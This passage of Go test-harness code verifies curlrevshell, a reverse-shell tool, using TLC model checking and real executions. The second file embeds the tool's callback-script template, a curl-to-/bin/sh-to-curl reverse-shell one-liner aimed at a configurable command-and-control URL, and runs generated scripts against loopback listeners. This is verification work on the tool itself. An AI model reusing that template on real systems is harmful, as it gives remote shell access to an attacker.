		return false, res, fmt.Errorf("trace validation timed out")
	}
	if res.Violated == "NotAllConsumed" {
		return true, res, nil
	}
	return false, res, nil
}

// findRejected bisects a batch down to individual rejected traces (at most max).
func findRejected(module, cfgText string, idx []int, traces [][]brk.TraceEv, max int, out *[]int) error {
	if len(*out) >= max || len(idx) == 0 {
		return nil
	}
	sub := make([][]brk.TraceEv, len(idx))
	for i, k := range idx {
		sub[i] = traces[k]
	}
	ok, _, err := traceAccepted(module, cfgText, sub)
	if err != nil {
		return err
	}
	if ok {
		return nil
	}
	if len(idx) == 1 {
		*out = append(*out, idx[0])
		return nil
	}
	h := len(idx) / 2
	if err := findRejected(module, cfgText, idx[:h], traces, max, out); err != nil {
		return err
	}
	return findRejected(module, cfgText, idx[h:], traces, max, out)
}

// firstRefused returns the index of the first event of a rejected trace that
// no behaviour of the specification can explain.
func firstRefused(module, cfgText string, t []brk.TraceEv) (int, string, error) {
	lo, hi := 0, len(t) // prefix of length lo accepted, of length hi rejected
	for hi-lo > 1 {
		mid := (lo + hi) / 2
		ok, _, err := traceAccepted(module, cfgText, [][]brk.TraceEv{t[:mid]})
		if err != nil {
			return -1, "", err
		}
		if ok {
			lo = mid
		} else {
			hi = mid
		}
	}
	_, res, _ := traceAccepted(module, cfgText, [][]brk.TraceEv{t[:hi]})
	inv := ""
	if res != nil && res.Violated != "NotAllConsumed" {
		inv = res.Violated
	}
	return hi - 1, inv, nil
}

func outTraceCfg(nchunks, ochCap int, io bool) string {
	return fmt.Sprintf(`SPECIFICATION TSpec
CONSTANTS
  NChunks = %d
  QCap = 2
  OchCap = %d
  ReaderSelectsCtx = TRUE
  MayOmitNotice = %s
INVARIANTS NotAllConsumed ShownIsPrefix ChannelInOrder NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
CHECK_DEADLOCK FALSE
`, nchunks, ochCap, map[bool]string{true: "TRUE", false: "FALSE"}[io])
}

// outAttribute says which property the refusal of an event contradicts.
func outAttribute(e brk.TraceEv, inv string) (prop, aspect string) {
	switch inv {
	case "LogMatchesForwarded", "NothingDroppedLogged":
		return "C11", "output-log:" + inv
	case "":
	default:
		return "C03", "output:" + inv
	}
	switch e["e"] {
	case "Take":
		if v, _ := e["v"].(float64); v == 0 {
			return "C03", "output:close-notice-position"
		}
		if v, _ := e["v"].(int); v == 0 {
			if _, isInt := e["v"].(int); isInt {
				return "C03", "output:close-notice-position"
			}
		}
		return "C03", "output:shown-chunk"
	case "Log":
		return "C11", "output-log:record"
	case "Released":
		return "C04", "output:release"
	case "Quiesced":
		if l, _ := e["leaked"].(int); l > 0 {
			return "C04", "output:goroutine-left-behind"
		}
		return "C04", "output:not-torn-down"
	}
	return "", "harness:" + fmt.Sprint(e["e"])
}

func outCampaign(r *ev.Run, prop string) {
	rng := rand.New(rand.NewSource(r.Seed))
	t0 := time.Now()
	caps := []int{0, 1, 4}
	perCap := 250
	if r.Tier == "thorough" {
		perCap = 1 << 30
	}
	states, trans, ntr, nev := 0, 0, 0, 0
	analysed := 0
	reported := map[string]bool{}
	nontrivial := map[string]bool{}
	for _, cp := range caps {
		// 1. the specification itself: invariants and liveness
		res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerOut", Config: fmt.Sprintf("BrokerOut_c%d", cp), Workers: 4, Timeout: 10 * time.Minute})
		if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
			r.Inconclusive("TLC BrokerOut_c%d: err=%v violated=%q\n%s", cp, err, resViolated(res), tail(res))
			return
		}
		states += res.Distinct
		trans += res.Generated
		// 2. environment schedules covering every edge
		scheds, eres := envSchedules(r, "BrokerOutEmit", fmt.Sprintf("BrokerOutEmit_c%d", cp), rng, 60)
		if scheds == nil {
			return
		}
		_ = eres
		r.Set(fmt.Sprintf("schedules_c%d", cp), len(scheds))
		if len(scheds) > perCap {
			scheds = scheds[:perCap]
		}
		// 3. run them on the real broker: settled, racing, and as a half of /io
		var runs []*outRun
		for i, s := range scheds {
			runs = append(runs, &outRun{sched: s, opts: brk.OutOpts{OchCap: cp, Settle: true, Seed: r.Seed*7919 + int64(i)}})
			if i%3 == 0 {
				runs = append(runs, &outRun{sched: s, opts: brk.OutOpts{OchCap: cp, Settle: false, Seed: r.Seed*7919 + int64(i) + 1}})
			}
			if i%4 == 1 {
				runs = append(runs, &outRun{sched: s, opts: brk.OutOpts{OchCap: cp, Settle: true, IO: true, Seed: r.Seed*7919 + int64(i) + 2}})
			}
		}
		var wg sync.WaitGroup
		sem := make(chan struct{}, runtime.NumCPU())
		for _, ru := range runs {
			wg.Add(1)
			sem <- struct{}{}
			go func(ru *outRun) {
				defer wg.Done()
				defer func() { <-sem }()
				ru.res = brk.RunOut(ru.sched, ru.opts)
			}(ru)
		}
		wg.Wait()
		fmt.Printf("cap %d: %d schedules, %d runs executed, %v since start\n", cp, len(scheds), len(runs), time.Since(t0))
		// 4. validate the traces, one TLC run per class
		for _, io := range []bool{false, true} {
			var traces [][]brk.TraceEv
			var which, leakedRuns []*outRun
			maxChunks := 4
			for _, ru := range runs {
				if ru.opts.IO != io {
					continue
				}
				if ru.res.Infra != nil {
					r.Inconclusive("output run: %v", ru.res.Infra)
					continue
				}
				n := 0
				for _, e := range ru.res.Trace {
					if e["e"] == "Read" && e["d"] == true {
						n++
					}
				}
				if n > maxChunks {
					maxChunks = n
				}
				if len(ru.res.Leaked) > 0 {
					leakedRuns = append(leakedRuns, ru)
					nev += len(ru.res.Trace)
					ntr++
					continue
				}
				traces = append(traces, ru.res.Trace)
				which = append(which, ru)
				nev += len(ru.res.Trace)
				if n > 0 {
					k, _ := json.Marshal(ru.res.Trace)
					nontrivial[string(k)] = true
				}
			}
			// executions that left a goroutine behind are all refused at Quiesced;
			// let TLC confirm that on the first of them instead of bisecting hundreds
			if len(leakedRuns) > 0 {
				ru := leakedRuns[0]
				cfgText := outTraceCfg(64, cp+1, io)
				ok, _, err := traceAccepted("BrokerOutTrace", cfgText, [][]brk.TraceEv{ru.res.Trace})
				okp, _, errp := traceAccepted("BrokerOutTrace", cfgText, [][]brk.TraceEv{ru.res.Trace[:len(ru.res.Trace)-1]})
				switch {
				case err != nil || errp != nil:
					r.Inconclusive("validating a leaking execution: %v %v", err, errp)
				case ok:
					r.Inconclusive("a leaking execution was accepted by the trace specification")
				case !okp:
					traces = append(traces, ru.res.Trace) // refused earlier than Quiesced: judge with the rest
					which = append(which, ru)
				case prop == "C04":
					if n := reproduces(ru, cfgText, "C04", "output:goroutine-left-behind"); n >= 2 {
						r.Violation("output:goroutine-left-behind", map[string]any{"kind": "BrokerOut-trace", "och_cap": cp, "io": io, "settle": ru.opts.Settle,
							"seed": ru.opts.Seed, "schedule": ru.sched, "trace": ru.res.Trace, "leaked": ru.res.Leaked, "executions_leaking": len(leakedRuns)})
					} else if n == 1 {
						r.Inconclusive("leak reproduced only once in eight re-executions: %v", ru.sched)
					} else {
						transient(r, "a goroutine left behind by %v", ru.sched)
					}
				default:
					fmt.Printf("note: %d executions left a goroutine behind (C04, output:goroutine-left-behind); reported by that property's check\n", len(leakedRuns))
				}
			}
			if len(traces) == 0 {
				continue
			}
			ntr += len(traces)
			cfgText := outTraceCfg(maxChunks, cp+1, io) // +1: the item in the harness's hand between receive and record
			if cp == caps[0] && !io {
				if !selfTestOut(r, cfgText, traces) {
					return
				}
			}
			tv := time.Now()
			ok, tres, err := traceAccepted("BrokerOutTrace", cfgText, traces)
			fmt.Printf("trace validation cap=%d io=%v: %d traces, accepted=%v, %v\n", cp, io, len(traces), ok, time.Since(tv))
			if err != nil {
				r.Inconclusive("trace validation (cap %d, io %v): %v\n%s", cp, io, err, tail(tres))
				return
			}
			r.Add("trace_validation_states", tres.Distinct)
			if ok {
				continue
			}
			idx := make([]int, len(traces))
			for i := range idx {
				idx[i] = i
			}
			var rej []int
			if analysed >= 8 {
				fmt.Printf("note: further rejected output traces (cap %d, io %v) are not analysed: 8 already were\n", cp, io)
				continue
			}
			if err := findRejected("BrokerOutTrace", cfgText, idx, traces, 6, &rej); err != nil {
				r.Inconclusive("bisecting rejected traces: %v", err)
				return
			}
			for _, k := range rej {
				analysed++
				at, inv, err := firstRefused("BrokerOutTrace", cfgText, traces[k])
				if err != nil || at < 0 {
					r.Inconclusive("locating refused event: %v", err)
					continue
				}
				p, aspect := outAttribute(traces[k][at], inv)
				ru := which[k]
				if p == "C03" && inv == "" {
					// TLC takes a Log event as proof that the chunk was handed over.  When the bytes
					// actually shown satisfy the statement and it is the log that claims more than
					// was delivered, the refusal contradicts C11, not C03.
					c03, c11 := outByteOracles(ru.res)
					if !c03 && c11 {
						p, aspect = "C11", "output-log:record-without-delivery"
					}
				}
				detail := map[string]any{"kind": "BrokerOut-trace", "och_cap": cp, "io": io, "settle": ru.opts.Settle, "seed": ru.opts.Seed,
					"schedule": ru.sched, "trace": traces[k], "refused_event_index": at, "refused_event": traces[k][at], "violated_invariant": inv,
					"sent_bytes": len(ru.res.SentBytes), "leaked": ru.res.Leaked}
				switch {
				case p == "":
					r.Inconclusive("trace rejected at a harness event %v (cap %d): %v", traces[k][at], cp, traces[k])
				case p == prop && reported[aspect]:
					// the same refusal again
				case p == prop:
					// reproduce on fresh executions of the same schedule before reporting; a refusal that
					// does not come back leaves the aspect open for the next refused trace of its kind
					switch n := reproduces(ru, cfgText, p, aspect); {
					case n >= 2:
						reported[aspect] = true
						r.Violation(aspect, detail)
					case n == 1:
						r.Inconclusive("rejected trace reproduced only once in eight re-executions (%s): %v\n  trace: %v (refused at %d)", aspect, ru.sched, traces[k], at)
					default:
						transient(r, "rejected trace (%s): %v\n  trace: %v (refused at %d)", aspect, ru.sched, traces[k], at)
					}
				default:
					fmt.Printf("note: rejected trace attributed to %s (%s); reported by that property's check\n", p, aspect)
					if os.Getenv("VERIF_DEBUG") != "" {
						fmt.Printf("  at %d of %v\n", at, traces[k])
					}
				}
			}
		}
		if len(r.Coverage) > 0 && r.Get("samples_n") < 3 && len(runs) > 0 {
			ru := runs[rng.Intn(len(runs))]
			r.Sample(map[string]any{"och_cap": cp, "schedule": ru.sched, "trace": ru.res.Trace})
			r.Add("samples_n", 1)
		}
	}
	r.Add("states", states)
	r.Add("transitions", trans)
	r.Add("traces_validated_against_impl", ntr)
	r.Add("trace_events", nev)
	r.Add("evaluations", ntr)
	r.Add("distinct_nontrivial", len(nontrivial))
	r.Rule("environment schedules (reads with data/error/both/nothing, terminal takes, cancellation, transport close) are the projections of walks covering every edge of BrokerOut's TLC graph for operator-channel capacities 0/1/4; each is executed on a real Broker (settled, racing, and as a /io half) and the recorded trace is validated by TLC against BrokerOutTrace; non-trivial = distinct traces in which at least one chunk was read")
	r.Append("tlc_invariants_checked", "BrokerOut: TypeOK ShownIsPrefix ChannelInOrder ForwardedIsShownPlusChannel NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged; liveness EndsWhenCancelled NoLeak EndsBySelf")
	r.Assume("chunk contents are a seeded pseudo-random byte stream with sizes from {1,2,7,100,2047,2048}; a displayed line is mapped to a chunk number by content")
	r.Assume("steps inside proxyOut are not observed; TLC infers them as silent steps")
}

// reproduces runs the schedule again (twice) and checks that TLC refuses the
// new traces for the same reason.
// reproduces re-executes the schedule of a refused trace and counts how often the same refusal
// comes back (at most 2 are needed).  A verdict needs two; none at all in four executions means
// the refusal was a transient of the recording on this machine, not of the code.
func reproduces(ru *outRun, cfgText, prop, aspect string) int {
	hits := 0
	for k := 0; k < 8 && hits < 2; k++ {
		res := brk.RunOut(ru.sched, ru.opts)
		if res.Infra != nil {
			continue
		}
		ok, _, err := traceAccepted("BrokerOutTrace", cfgText, [][]brk.TraceEv{res.Trace})
		if err != nil || ok {
			continue
		}
		at, inv, err := firstRefused("BrokerOutTrace", cfgText, res.Trace)
		if err != nil || at < 0 {
			continue
		}
		p, a := outAttribute(res.Trace[at], inv)
		if p == "C03" && inv == "" {
			if c03, c11 := outByteOracles(res); !c03 && c11 {
				p, a = "C11", "output-log:record-without-delivery"
			}
		}
		if p == prop && a == aspect {
			hits++
		}
	}
	return hits
}

// transient notes a refusal that did not come back in four further executions.
func transient(r *ev.Run, format string, a ...any) {
	fmt.Printf("note: seen once and not again in eight re-executions: "+format+"\n", a...)
	r.Add("transients_not_reproduced", 1)
}

// selfTestOut: a trace with one corrupted field must be rejected.
func selfTestOut(r *ev.Run, cfgText string, traces [][]brk.TraceEv) bool {
	for _, t := range traces {
		for i, e := range t {
			if e["e"] == "Take" && e["v"] == 1 {
				bad := make([]brk.TraceEv, len(t))
				copy(bad, t)
				bad[i] = brk.TraceEv{"e": "Take", "v": 2}
				ok, _, err := traceAccepted("BrokerOutTrace", cfgText, [][]brk.TraceEv{bad})
				if err != nil || ok {
					r.Inconclusive("self-test: a corrupted trace was accepted (%v)", err)
					return false
				}
				ok, _, err = traceAccepted("BrokerOutTrace", cfgText, [][]brk.TraceEv{t})
				if err != nil || !ok {
					// the uncorrupted one is judged with the rest
					return true
				}
				r.Append("selftest", "trace with Take(1) replaced by Take(2) rejected, original accepted")
				return true
			}
		}
	}
	r.Inconclusive("self-test: no trace with a displayed chunk found")
	return false
}

// ctlLiveness checks the control-level liveness properties with TLC.
func ctlLiveness(r *ev.Run) {
	res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerCtl", Config: "BrokerCtl_live", Workers: 8, Timeout: 10 * time.Minute})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC BrokerCtl_live: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Append("tlc_invariants_checked", "BrokerCtl_live (fairness): PeerCancelled ShutdownEnds")
}

// outByteOracles restates C03 and C11 on the bytes of one execution: what was
// shown must be a prefix of what was sent (everything, with the notice last,
// unless the stream was cancelled), and the logged chunks must be exactly the
// chunks the terminal received.
func outByteOracles(o *brk.OutResult) (c03fails, c11fails bool) {
	var shown []byte
	for _, c := range o.Shown {
		shown = append(shown, c...)
	}
	if !bytes.HasPrefix(o.SentBytes, shown) {
		c03fails = true
	}
	if !o.Cancelled && (!bytes.Equal(shown, o.SentBytes) || (o.NoticeAt >= 0 && o.NoticeAt != o.Takes-1)) {
		c03fails = true
	}
	if len(o.LogData) != len(o.Shown) {
		c11fails = true
	} else {
		for i := range o.LogData {
			if o.LogData[i] != string(o.Shown[i]) {
				c11fails = true
			}
		}
	}
	return
}

// compositionLeg model-checks Curlrevshell.tla: BrokerOut composed with Opshell over the operator channel.
func compositionLeg(r *ev.Run) {
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Curlrevshell", Config: "Curlrevshell", Workers: 8, Timeout: 15 * time.Minute})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC Curlrevshell: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", res.Generated)
	r.Append("tlc_invariants_checked", "Curlrevshell (BrokerOut x Opshell over the operator channel): DisplayedIsPartOfSent NothingLostWithoutCtrlO NoticesAlwaysDisplayed UnmutedAndUncancelledLosesNothing")
}
