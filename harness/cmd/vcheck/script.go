package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/srv"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C07", "model_checking", scriptCampaign)
}

type scCase struct {
	Form    string `json:"form"`
	Header  string `json:"header"`
	Host    string `json:"host"`
	Sni     string `json:"sni"`
	Port443 bool   `json:"port443"`
	Fam     string `json:"fam"`
	Res     struct {
		OK   bool   `json:"ok"`
		From string `json:"from"`
	} `json:"res"`
}

var (
	reCurlIn  = regexp.MustCompile(`curl -Nsk --pinnedpubkey "sha256//([^"]+)" https://(\S+)/i/(\S+) `)
	reCurlOut = regexp.MustCompile(`curl -Nsk --pinnedpubkey "sha256//([^"]+)" https://(\S+)/o/(\S+) -T-`)
	reSafeID  = regexp.MustCompile(`^[0-9a-z]+$`)
)

const tmplBody = `#!/bin/sh
# %s
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |
/bin/sh 2>&1 |
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1
`

type script struct {
	fpIn, urlIn, idIn, fpOut, urlOut, idOut string
}

func parseScript(b []byte) (script, bool) {
	mi := reCurlIn.FindSubmatch(b)
	mo := reCurlOut.FindSubmatch(b)
	if mi == nil || mo == nil {
		return script{}, false
	}
	return script{string(mi[1]), string(mi[2]), string(mi[3]), string(mo[1]), string(mo[2]), string(mo[3])}, true
}

type scFinding struct {
	key    string
	detail map[string]any
}

// scCheckScript checks the invariants every script must satisfy.
func scCheckScript(b []byte, resp srv.Resp, ids map[string]bool, idmu *sync.Mutex, what map[string]any) (script, []scFinding) {
	var fs []scFinding
	sc, ok := parseScript(b)
	if !ok {
		what["body"] = string(b)
		return sc, []scFinding{{"script-unparsable", what}}
	}
	if sc.idIn != sc.idOut {
		fs = append(fs, scFinding{"ids-differ", what})
	}
	// one script, not several: exactly one command fetching input and one sending output, one interpreter line
	if n, m := len(reCurlIn.FindAll(b, -1)), len(reCurlOut.FindAll(b, -1)); n != 1 || m != 1 || bytes.Count(b, []byte("#!/bin/sh")) > 1 ||
		len(regexp.MustCompile(`https://[^\s"']*/[io]/`).FindAll(b, -1)) != 2 {
		what["body"] = string(b)
		fs = append(fs, scFinding{"script-has-leftover-or-extra-commands", what})
	}
	if sc.urlIn != sc.urlOut {
		fs = append(fs, scFinding{"urls-differ", what})
	}
	if !reSafeID.MatchString(sc.idIn) || !reSafeID.MatchString(sc.idOut) {
		what["id"] = sc.idIn
		fs = append(fs, scFinding{"id-unsafe-characters", what})
	}
	if resp.Leaf != nil {
		h := sha256.Sum256(resp.Leaf.RawSubjectPublicKeyInfo)
		want := base64.StdEncoding.EncodeToString(h[:])
		if sc.fpIn != want || sc.fpOut != want {
			what["pin_in_script"] = sc.fpIn
			what["pin_of_served_key"] = want
			fs = append(fs, scFinding{"script-pins-wrong-key", what})
		}
	}
	idmu.Lock()
	if ids[sc.idIn] {
		what["id"] = sc.idIn
		fs = append(fs, scFinding{"id-repeated", what})
	}
	ids[sc.idIn] = true
	idmu.Unlock()
	return sc, fs
}

func scRequest(c scCase, addr string) (req []byte, sni, want string, port string) {
	_, port, _ = strings.Cut(addr, ":")
	if i := strings.LastIndex(addr, ":"); i >= 0 {
		port = addr[i+1:]
	}
	target := "/c"
	method := "GET"
	var body string
	switch c.Form {
	case "empty":
		target = "/c?c2="
	case "value":
		target = "/c?c2=form.example:1234"
	case "post":
		method = "POST"
		body = "c2=post.example%3A99"
	}
	proto := "HTTP/1.1"
	var hdr []string
	switch c.Host {
	case "absent":
		proto = "HTTP/1.0"
	case "ascii":
		hdr = append(hdr, "Host: plain.example")
	case "ascii-port":
		hdr = append(hdr, "Host: plain.example:8443")
	case "mixed-case":
		hdr = append(hdr, "Host: MiXed.Example")
	case "punycode":
		hdr = append(hdr, "Host: xn--bcher-kva.example")
	case "punycode-port":
		hdr = append(hdr, "Host: xn--bcher-kva.example:8443")
	case "ip4-port":
		hdr = append(hdr, "Host: 192.0.2.7:8443")
	case "ip6":
		hdr = append(hdr, "Host: [2001:db8::7]")
	case "ip6-port":
		hdr = append(hdr, "Host: [2001:db8::7]:8443")
	case "utf8":
		hdr = append(hdr, "Host: b\xc3\xbccher.example")
	}
	switch c.Header {
	case "empty":
		hdr = append(hdr, "c2:")
	case "value":
		hdr = append(hdr, "c2: header.example:4321")
	}
	if method == "POST" {
		hdr = append(hdr, "Content-Type: application/x-www-form-urlencoded", fmt.Sprintf("Content-Length: %d", len(body)))
	}
	hdr = append(hdr, "Connection: close")
	if c.Sni == "present" {
		sni = "sni.example"
	}
	switch c.Res.From {
	case "form":
		want = "form.example:1234"
		if c.Form == "post" {
			want = "post.example:99"
		}
	case "header":
		want = "header.example:4321"
	case "host":
		want = map[string]string{"ascii": "plain.example", "ascii-port": "plain.example:8443", "mixed-case": "MiXed.Example", "punycode": "xn--bcher-kva.example",
			"punycode-port": "xn--bcher-kva.example:8443", "ip4-port": "192.0.2.7:8443", "ip6": "[2001:db8::7]", "ip6-port": "[2001:db8::7]:8443"}[c.Host]
	case "sni":
		want = "sni.example"
	case "sni-port":
		want = "sni.example:" + port
	}
	req = []byte(fmt.Sprintf("%s %s %s\r\n%s\r\n\r\n%s", method, target, proto, strings.Join(hdr, "\r\n"), body))
	return
}

func scriptCampaign(r *ev.Run) {
	cfg, nIDs, nShells := "Script_q", 3000, 2
	if r.Tier == "thorough" {
		cfg, nIDs, nShells = "Script_t", 100000, 8
	}
	var mu sync.Mutex
	cases := map[string]scCase{}
	g := graph.New()
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Script", Config: cfg, Workers: 4, Timeout: 20 * time.Minute,
		OnTagged: func(tag, p string) {
			mu.Lock()
			defer mu.Unlock()
			switch tag {
			case "CASE":
				var c scCase
				if json.Unmarshal([]byte(p), &c) == nil {
					cases[p] = c
				}
			case "EDGE":
				g.AddEdgeJSON(p)
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "Script: FreshID PrecedenceTotal NoScriptOnBadTemplate RereadEveryRequest")
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "script-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	ids := map[string]bool{}
	var idmu sync.Mutex
	var all []scFinding
	add := func(fs ...scFinding) {
		mu.Lock()
		all = append(all, fs...)
		mu.Unlock()
	}
	// ---- part A: the callback address
	s, err := srv.Start(srv.Opts{})
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	s443, err443 := srv.Start(srv.Opts{Addr: "127.0.0.1:443"})
	if err443 != nil {
		r.Set("port_443_unavailable", err443.Error())
	}
	// the same over IPv6 loopback, where the sandbox has it
	s6, err6 := srv.Start(srv.Opts{Addr: "[::1]:0"})
	var s6443 *srv.S
	if err6 != nil {
		r.Set("ipv6_loopback_unavailable", err6.Error())
	} else if s6443, err = srv.Start(srv.Opts{Addr: "[::1]:443"}); err != nil {
		s6443 = nil
	}
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	nA, nontrivial := 0, 0
	for _, k := range keys {
		c := cases[k]
		sv := s
		switch {
		case c.Fam == "ip6" && c.Port443:
			sv = s6443
		case c.Fam == "ip6":
			sv = s6
		case c.Port443:
			sv = s443
		}
		if sv == nil {
			continue
		}
		req, sni, want, _ := scRequest(c, sv.Addr)
		n0 := sv.NLines()
		resp := srv.Raw(sv.Addr, sni, req, 5*time.Second)
		nA++
		what := map[string]any{"form": c.Form, "header": c.Header, "host": c.Host, "sni": c.Sni, "port443": c.Port443, "listen_family": c.Fam, "expected_from": c.Res.From,
			"status": resp.Status, "request": string(req)}
		switch {
		case c.Res.From == "rejected":
			// refused by net/http before the handler, or handled as no usable source
			if resp.Status != 400 {
				add(scFinding{"non-ascii-host-not-refused", what})
			}
		case !c.Res.OK:
			if resp.Status != 400 || len(bytes.TrimSpace(resp.Body)) != 0 && bytes.Contains(resp.Body, []byte("curl")) {
				add(scFinding{"script-without-callback-address", what})
			}
		default:
			nontrivial++
			if resp.Status != 200 {
				what["body"] = string(resp.Body)
				add(scFinding{"no-script:" + c.Res.From, what})
				continue
			}
			sc, fs := scCheckScript(resp.Body, resp, ids, &idmu, what)
			add(fs...)
			if len(fs) == 0 && sc.urlIn != want && !(c.Host == "mixed-case" && strings.EqualFold(sc.urlIn, want) && c.Res.From == "host") {
				what["url_in_script"] = sc.urlIn
				what["expected_url"] = want
				add(scFinding{"callback-address-precedence:" + c.Res.From, what})
			}
		}
		_ = n0
	}
	for _, x := range []*srv.S{s443, s6443} {
		if x != nil {
			x.Stop()
		}
	}
	// ---- part C: many scripts, all IDs distinct and safe
	var wg sync.WaitGroup
	per := nIDs / runtime.NumCPU()
	for w := 0; w < runtime.NumCPU(); w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				resp := srv.Get(s.Addr, "/c", "ids.example:1")
				if resp.Status != 200 {
					add(scFinding{"no-script:host", map[string]any{"status": resp.Status}})
					return
				}
				_, fs := scCheckScript(resp.Body, resp, ids, &idmu, map[string]any{"leg": "many scripts"})
				add(fs...)
			}
		}()
	}
	wg.Wait()
	// ---- the script yields a working shell
	nWorking := 0
	for i := 0; i < nShells; i++ {
		s := s
		if i%2 == 1 && s6 != nil {
			s = s6 // the script must work whatever address family the listener is on
		}
		host := s.Addr
		resp := srv.Get(s.Addr, "/c", host)
		if resp.Status != 200 {
			add(scFinding{"no-script:host", map[string]any{"status": resp.Status}})
			break
		}
		sf := filepath.Join(scratch, fmt.Sprintf("cb%d.sh", i))
		os.WriteFile(sf, resp.Body, 0o700)
		n0 := s.NLines()
		cmd := exec.Command("/bin/sh", sf)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + scratch}
		if err := cmd.Start(); err != nil {
			r.Inconclusive("cannot run /bin/sh: %v", err)
			break
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		what := map[string]any{"script": string(resp.Body), "listen_address": s.Addr}
		if _, ok := s.WaitLine(n0, 10*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellReadyMessage) }); !ok {
			add(scFinding{"script-does-not-attach-a-shell", what})
			cmd.Process.Kill()
			<-done
			continue
		}
		marker := fmt.Sprintf("%d", 1000+i*7)
		s.Ich <- fmt.Sprintf("echo $((%d*6*7))", 1000+i*7)
		wantOut := fmt.Sprint((1000 + i*7) * 42)
		if _, ok := s.WaitLine(n0, 10*time.Second, func(cl opshell.CLine) bool { return cl.Plain && strings.Contains(cl.Line, wantOut) }); !ok {
			what["expected_output"] = wantOut
			add(scFinding{"shell-does-not-run-commands", what})
		} else {
			nWorking++
		}
		_ = marker
		s.Ich <- "exit"
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			cmd.Process.Kill()
			<-done
			add(scFinding{"shell-does-not-end", what})
		}
		s.WaitLine(n0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) })
	}
	s.Stop()
	if s6 != nil {
		s6.Stop()
	}
	// ---- part B: the template file, every edge of the history machine
	g.SetInitByNoIncoming()
	rng := rand.New(rand.NewSource(r.Seed))
	nB := 0
	if len(g.Edges) > 0 {
		// several initial states (one per template state): walks from each
		inits := map[int]bool{}
		hasIn := make([]bool, len(g.State))
		for _, e := range g.Edges {
			hasIn[e.To] = true
		}
		for i := range g.State {
			if !hasIn[i] {
				inits[i] = true
			}
		}
		var walks [][]int
		for in := range inits {
			g.Init = in
			walks = append(walks, g.CoveringWalks(rng, 8)...)
		}
		sem := make(chan struct{}, runtime.NumCPU())
		for wi, w := range walks {
			wg.Add(1)
			sem <- struct{}{}
			go func(wi int, w []int) {
				defer wg.Done()
				defer func() { <-sem }()
				add(scTemplateWalk(g, w, filepath.Join(scratch, fmt.Sprintf("t%d", wi)), ids, &idmu)...)
			}(wi, w)
		}
		wg.Wait()
		nB = len(walks)
	}
	sort.Slice(all, func(i, j int) bool { return all[i].key < all[j].key })
	for _, f := range all {
		r.Violation(f.key, f.detail)
	}
	for i := 0; i < 3 && i < len(keys); i++ {
		c := cases[keys[(i*101)%len(keys)]]
		req, sni, want, _ := scRequest(c, "127.0.0.1:PORT")
		r.Sample(map[string]any{"request": string(req), "sni": sni, "expected_callback_address": want, "from": c.Res.From})
	}
	idmu.Lock()
	nids := len(ids)
	idmu.Unlock()
	r.Add("evaluations", nA+nB+nIDs+nShells)
	r.Add("distinct_nontrivial", nontrivial+nB)
	r.Add("traces_validated_against_impl", nB+nA)
	r.Set("c2_source_cases", nA)
	r.Set("template_walks", nB)
	r.Set("distinct_ids_seen", nids)
	r.Set("working_shell_round_trips", nWorking)
	r.Rule("TLC enumerates every combination of c2 form/query value (absent, empty, value, POST body), c2 header (absent, empty, value), Host (absent via HTTP/1.0, ascii, with port, mixed case, punycode with and without port, IPv4 literal with port, bracketed IPv6 literal with and without port, raw UTF-8), SNI (absent, present), listen port (443 or not) and listen address family (IPv4, IPv6 loopback) with the source Script.tla's C2URL selects, and every history of template edits and requests up to the bound; each is played against a real hsrv over raw TLS (real edits, removals and re-creations of the template file between requests), the script is taken apart (both pins = hash of the leaf presented, same URL, same ID, safe ID alphabet, never repeated), many scripts are requested for ID freshness, and scripts from listeners of both address families are piped to real /bin/sh with real curl until a command round-trips through the attached shell; non-trivial = cases that must yield a script")
	r.Assume("the IDNA clause is exercised with hosts net/http lets through; a raw UTF-8 Host is refused by net/http before the handler")
}

// scTemplateWalk replays one history of template edits and requests.
func scTemplateWalk(g *graph.G, walk []int, dir string, ids map[string]bool, idmu *sync.Mutex) []scFinding {
